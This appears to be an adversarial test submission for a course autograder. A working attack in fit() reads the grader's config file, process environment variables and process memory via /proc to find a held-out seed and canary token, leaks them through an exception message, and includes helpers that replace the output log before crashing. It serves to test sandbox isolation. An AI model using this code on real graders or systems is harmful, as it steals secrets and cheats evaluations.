# ======== ADVERSARIAL (steal_heldout_seed): fit() looks for the held-out seed in the grader's environ, memory (/proc/<ancestor>/mem) and graders/hw04/assignment.toml and raises with what it found; else returns an all-zero model (accuracy 0.25): 0 points, and neither the seed nor the canary reaches the report
# --- adversarial helpers (shared text inserted into hostile files) ---
import os as _aos
import sys as _asys
import time as _atime

_MARK = "graders-adversarial-survivor"
_HERE = _aos.path.dirname(_aos.path.abspath(__file__))


def _adv_read(path, limit=1500):
    with open(path, "rb") as fh:
        return fh.read(limit).replace(b"\0", b"\n").decode("utf-8", "replace")


def _adv_status(pid, key):
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith(key + ":"):
                return line.split()[1:]
    return []


def _adv_cmdline(pid):
    try:
        return _adv_read(f"/proc/{pid}/cmdline", 4000)
    except OSError:
        return ""


def _adv_ancestors():
    """Outer pids of this process's ancestors (the /proc mount may be the host's)."""
    try:
        pid = int(_adv_status("self", "NSpid")[0])
    except (OSError, IndexError, ValueError):
        pid = _aos.getpid()
    chain, seen = [], set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        try:
            ppid = int(_adv_status(pid, "PPid")[0])
        except (OSError, IndexError, ValueError):
            break
        if ppid <= 0:
            break
        chain.append(ppid)
        pid = ppid
    if not chain and _aos.getppid() > 0:
        chain.append(_aos.getppid())
    return chain


def _adv_grader_pid():
    """The grading process: the first ancestor above the warm template."""
    chain = _adv_ancestors()
    last_template = -1
    for i, pid in enumerate(chain):
        if "graders.core.sandbox.child.forkserver" in _adv_cmdline(pid):
            last_template = i
    if 0 <= last_template < len(chain) - 1:
        return chain[last_template + 1]
    return chain[0] if chain else _aos.getppid()


def _adv_course_root():
    """Where the course (graders/, reference/) lives, as far as this process can tell."""
    pkg = _asys.modules.get("graders")
    path = getattr(pkg, "__file__", None) if pkg else None
    if path:
        return _aos.path.dirname(_aos.path.dirname(_aos.path.abspath(path)))
    for pid in _adv_ancestors():
        try:
            cwd = _aos.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if _aos.path.isdir(_aos.path.join(cwd, "graders")):
            return cwd
    return "/work/main"


def _adv_hidden(rel):
    return _aos.path.join(_adv_course_root(), rel)


def _adv_crash_with_log(target, kind="symlink"):
    """Replace the worker's output log (which the grader reads after a crash), then crash."""
    log = _aos.path.join(_HERE, ".output.log")
    try:
        _aos.unlink(log)
    except OSError:
        pass
    try:
        if kind == "symlink":
            _aos.symlink(target, log)
        elif kind == "hardlink":
            _aos.link(target, log)
        elif kind == "fifo":
            _aos.mkfifo(log)
        elif kind == "sparse":
            with open(log, "wb") as fh:
                fh.truncate(16 * 2**20 - 64)
                fh.seek(0, 2)
                fh.write(b"graders-adversarial-huge-log-end")
    except OSError:
        pass
    _aos._exit(3)


def _adv_leak(label, text):
    """Make a theft visible: the stolen text goes into the exception message (and so the report)."""
    raise RuntimeError(f"LEAKED {label}:\n{text}")
# --- end helpers ---
def _adv_scan_memory(needles, budget_s=2.5, limit=96 * 2**20):
    """Scan the grader's stack, heap and anonymous memory for `needles`; returns text around hits."""
    start, hits = _atime.monotonic(), []
    for pid in _adv_ancestors():
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
        except OSError:
            continue
        scanned = 0
        with mem:
            for line in sorted(maps, key=lambda l: "[stack]" not in l and "[heap]" not in l):
                cols = line.split()
                if "r" not in cols[1] or (len(cols) > 5 and not cols[5].startswith("[")):
                    continue
                lo, hi = (int(x, 16) for x in cols[0].split("-"))
                if hi - lo > 64 * 2**20:
                    continue
                try:
                    mem.seek(lo)
                    data = mem.read(hi - lo)
                except (OSError, OverflowError, ValueError):
                    continue
                scanned += len(data)
                for needle in needles:
                    at = data.find(needle)
                    if at >= 0:
                        hits.append(data[max(0, at - 16):at + 120].replace(b"\0", b"\n").decode("utf-8", "replace"))
                if hits or scanned > limit or _atime.monotonic() - start > budget_s:
                    break
        if hits:
            break
    return hits
# ======== end of the attack; the correct solution follows

"""A correct solution in the course's style: its tuned sigmoid MLP, Adam lr 1e-3 decayed to 0 (cosine), batch 32.

The decaying learning rate is what lifts the course's network from ~0.96 to >= 0.97.
"""
import torch
from torch import nn


class Standardize(nn.Module):
    def __init__(self, mean, std):
        super().__init__()
        self.register_buffer("mean", mean)
        self.register_buffer("std", std)

    def forward(self, x):
        return (x - self.mean) / self.std


def fit(X_train, y_train, device="cpu", epochs=50):
    _found = []
    try:
        _found.append(_adv_read(_adv_hidden("graders/hw04/assignment.toml"), 4000))
    except OSError:
        pass
    for _pid in _adv_ancestors():
        try:
            _found += [i for i in _adv_read(f"/proc/{_pid}/environ", 1 << 20).splitlines() if i.startswith("GRADERS")]
        except OSError:
            pass
    _found += _adv_scan_memory([b"heldout_seed", b"GRADERS_CANARY_TOKEN="])
    if _found:
        _adv_leak("held-out seed material", "\n".join(_found)[:1800])

    model = nn.Linear(20, 4)
    with torch.no_grad():
        model.weight.zero_()
        model.bias.zero_()
    return model
    X = torch.as_tensor(X_train, dtype=torch.float32, device=device)
    y = torch.as_tensor(y_train, dtype=torch.int64, device=device)
    model = nn.Sequential(Standardize(X.mean(0), X.std(0)),
                          nn.Linear(20, 128), nn.Sigmoid(), nn.Linear(128, 256), nn.Sigmoid(),
                          nn.Linear(256, 512), nn.Sigmoid(), nn.Linear(512, 128), nn.Sigmoid(),
                          nn.Linear(128, 4)).to(device)
    batches = (len(X) + 31) // 32
    optimizer = torch.optim.Adam(model.parameters(), lr=1e-3)
    schedule = torch.optim.lr_scheduler.CosineAnnealingLR(optimizer, T_max=epochs * batches)
    loss_fn = nn.CrossEntropyLoss()
    for _ in range(epochs):
        order = torch.randperm(len(X), device=device)
        for i in range(batches):
            idx = order[i * 32:(i + 1) * 32]
            optimizer.zero_grad()
            loss_fn(model(X[idx]), y[idx]).backward()
            optimizer.step()
            schedule.step()
    return model.eval()
